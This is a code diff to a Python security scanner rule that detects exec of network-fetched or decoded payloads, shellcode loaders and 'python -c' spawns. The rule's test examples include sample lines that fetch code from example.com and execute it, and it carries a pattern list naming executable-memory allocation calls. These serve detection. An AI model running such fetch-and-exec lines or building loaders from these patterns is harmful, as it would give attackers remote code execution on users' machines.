@@ -7,6 +7,7 @@ import libcst as cst
 from datasec_scan import fallback
 from datasec_scan.model import Category, Confidence, Severity
 from datasec_scan.rule import Example, Rule
+from datasec_scan.semantics.constants import fold_str
 
 from ._remote import (
     DECODED,
@@ -30,6 +31,10 @@ _CONFIDENCE = {NETWORK: Confidence.HIGH, SOCKET: Confidence.HIGH, DECODED: Confi
                FILE: Confidence.LOW, USER: Confidence.LOW}
 _HIDING = {"concat"}  # a plain concatenation of readable strings hides nothing
 _SERIALIZERS = {"pickle", "cPickle", "_pickle", "marshal", "dill", "cloudpickle", "copy", "joblib"}
+_EXECUTABLE_MEMORY = ("VirtualAlloc", "PAGE_EXECUTE", "0x40", "PROT_EXEC", "CreateThread", "mmap.mmap(-1")
+_PATH_BUILDERS = frozenset({"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "pathlib.PurePath",
+                            "pathlib.Path().joinpath", "os.path.abspath", "os.path.dirname"})
+_MAX_COMMAND_STEPS = 12  # fetch -> variables -> a helper or two -> spawn; longer trips are incidental data
 _RISKY_FILES = ("setup.py", "__init__.py", "sitecustomize.py", "usercustomize.py", "conftest.py")
 
 
@@ -40,8 +45,11 @@ class ExecOfUntrustedPayload(Rule):
     Finds `exec`, `eval`, `compile`, `runpy.run_path`, `types.FunctionType`, `pickle.loads`,
     `marshal.loads`, `dill`/`cloudpickle`/`joblib` loads and `yaml.load` with an unsafe loader,
     and asks where their argument comes from; also shell and process spawners whose command is
-    fetched from the network (critical) or decoded from a hidden literal (high). (Commands read
-    from a socket are DS102/DS103, request data DS109.) The severity follows that provenance:
+    fetched from the network (critical) or decoded from a hidden literal (high). The code of
+    `python -c CODE` (the interpreter named or `sys.executable`) is judged like an `exec` of it,
+    and fetched or decoded bytes copied with `RtlMoveMemory`/`memmove` into memory the file
+    allocates executable are a shellcode loader. (Commands read from a socket are DS102/DS103,
+    request data DS109.) The severity follows that provenance:
 
     - data fetched with `requests`, `httpx`, `urllib`, `http.client`, `aiohttp`, read from a
       socket or a DNS TXT record: **critical**;
@@ -53,7 +61,8 @@ class ExecOfUntrustedPayload(Rule):
 
     Names are resolved through aliases and dynamic tricks (`getattr(builtins, 'ex'+'ec')`,
     `__import__('marshal').loads`, `globals()['eval']`), and data is followed through variables
-    and helper functions of the same module.
+    and helper functions of the same module; a decoder in a helper or a lambda
+    (`unpack = lambda s: b64decode(s)`) is decoded with the literal its caller passes.
 
     ## Why is this bad?
     Executing what a server sends turns every machine running the package into a remote-controlled
@@ -88,12 +97,13 @@ class ExecOfUntrustedPayload(Rule):
     attack = ("T1059.006", "T1027", "T1105")
     triggers = ("exec", "eval", "compile", "loads", "load(", "load_all", "FunctionType", "run_path", "runsource",
                 "Unpickler", "getattr", "__import__", "import_module", "globals", "\\x", "chr(", "b64decode", "system",
-                "popen", "subprocess", "spawn")
+                "popen", "subprocess", "spawn", "RtlMoveMemory", "memmove")
     VALID = (
         "exec('x = 1 + 1')\n",
         "import ast\nvalue = ast.literal_eval(text)\n",
         "import yaml\ncfg = yaml.safe_load(open('cfg.yml'))\n",
         "import json, requests\ndata = json.loads(requests.get('https://example.com/x').text)\n",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n",
     )
     INVALID = (
         "import requests\nexec(requests.get('https://example.com/p').text)\n",
@@ -102,6 +112,8 @@ class ExecOfUntrustedPayload(Rule):
         "import urllib.request, marshal, types\n"
         "f = types.FunctionType(marshal.loads(urllib.request.urlopen('https://example.com/c').read()), {})\n",
         Example("import os\neval(os.environ['HOOK'])\n"),
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+        "\"import urllib.request as u; exec(u.urlopen('https://example.com/s').read())\"])\n",
     )
 
     @classmethod
@@ -119,7 +131,8 @@ class ExecOfUntrustedPayload(Rule):
         an = Analyzer.of(self.context)
         sink = an.exec_sink(node)
         if sink is None:
-            self._check_spawn(node, an)
+            if not self._check_shellcode(node, an):
+                self._check_spawn(node, an)
             return
         kind, qualified, arg = sink
         # exec(compile(src)), types.FunctionType(marshal.loads(b)): one finding, at the outer call, about the inner data.
@@ -134,6 +147,26 @@ class ExecOfUntrustedPayload(Rule):
             arg = inner[2]
         self._check(node, kind, qualified, arg, an)
 
+    def _check_shellcode(self, node: cst.Call, an: Analyzer) -> bool:
+        """Fetched or decoded bytes copied into memory the code allocated executable: a shellcode loader."""
+        if not isinstance(node.func, cst.Attribute) or node.func.attr.value not in ("RtlMoveMemory", "memmove",
+                                                                                  "RtlCopyMemory"):
+            return False
+        text = self.context.text
+        if not any(m in text for m in _EXECUTABLE_MEMORY):
+            return False
+        args = positional(node)
+        if len(args) < 2:
+            return False
+        sources = an.sources(args[1], want=(NETWORK, SOCKET, DECODED))
+        label = next((lab for lab in (NETWORK, SOCKET, DECODED) if lab in sources), None)
+        if label is None:
+            return False
+        self.report(node, f"{code_of(node.func, 40)} copies {LABEL_TEXT[label]} into executable memory "
+                    "(a shellcode loader)", severity=Severity.CRITICAL if label != DECODED else Severity.HIGH,
+                    confidence=Confidence.HIGH, flow=sources[label].steps + ((node, "copied into executable memory"),))
+        return True
+
     def _check_spawn(self, node: cst.Call, an: Analyzer) -> None:
         """A shell or program whose command line is fetched from the network or decoded from a hidden literal."""
         spawn = an.spawn(node)
@@ -143,12 +176,16 @@ class ExecOfUntrustedPayload(Rule):
         command = args[0] if args else keyword(node, "args") or keyword(node, "cmd") or keyword(node, "command")
         if command is None:
             return
+        inline = self._inline_python(command, an)
+        if inline is not None:  # `python -c "<code>"`: the code is executed as surely as by exec
+            self._check(node, "code", f"{spawn[1]}(python -c)", inline, an)
+            return
         sources = an.sources(command, want=(NETWORK, DECODED))
         parts = [e.value for e in command.elements] if isinstance(command, (cst.List, cst.Tuple)) else [command]
         decoded = [p for p in (an.decoded(part) for part in parts) if p is not None and p.layers]
         peeled = decoded[0] if decoded else an.decoded(command)
         hidden = peeled is not None and bool(set(peeled.layers) - _HIDING - {"escapes"})
-        if NETWORK in sources:
+        if NETWORK in sources and not self._incidental(sources[NETWORK].steps, an):
             label, severity, confidence = NETWORK, Severity.CRITICAL, Confidence.HIGH
             message = f"{spawn[1]} runs a command {LABEL_TEXT[NETWORK]}"
         elif hidden or DECODED in sources:
@@ -164,6 +201,43 @@ class ExecOfUntrustedPayload(Rule):
             return
         self.report(node, message, severity=severity, confidence=confidence,
                     flow=sources[label].steps + ((node, f"sink: {spawn[1]}"),))
+
+    @staticmethod
+    def _incidental(steps: tuple[tuple[cst.CSTNode, str], ...], an: Analyzer) -> bool:
+        """Fetched data that ends up in a command only as a path part or after a long trip through the program
+        (a version string from a release index naming an install folder): not a command someone sent."""
+        if len(steps) > _MAX_COMMAND_STEPS:
+            return True
+        for node, _ in steps:
+            if isinstance(node, cst.Call) and an.call_names(node) & _PATH_BUILDERS:
+                return True
+            if isinstance(node, cst.BinaryOperation) and isinstance(node.operator, cst.Divide):
+                return True
+        return False
+
+    @staticmethod
+    def _inline_python(command: cst.BaseExpression, an: Analyzer) -> cst.BaseExpression | None:
+        """The code argument of an argv `[python, ..., "-c", CODE]` (the interpreter named or `sys.executable`)."""
+        if isinstance(command, cst.Name):
+            command = an.names.single_value(command.value) or command
+        if not isinstance(command, (cst.List, cst.Tuple)) or len(command.elements) < 3:
+            return None
+        values = [e.value for e in command.elements if isinstance(e, cst.Element)]
+        program = fold_str(values[0], an.names) if values else None
+        if program is not None:
+            base = program.replace("\\", "/").rsplit("/", 1)[-1].lower()
+            if not base.startswith(("python", "pythonw", "py.exe")) and base != "py":
+                return None
+        elif not any(q.startswith(("sys.executable", "sys._base_executable"))
+                     for q in an.names.qualified_names(values[0])):
+            return None
+        for i, value in enumerate(values[1:-1], start=1):
+            flag = fold_str(value, an.names)
+            if flag == "-c":
+                return values[i + 1]
+            if flag is None or not flag.startswith("-"):
+                return None  # `python script.py -c x`: the -c belongs to the script
+        return None
 
     @staticmethod
     def _round_trip(arg: cst.BaseExpression, an: Analyzer) -> bool:
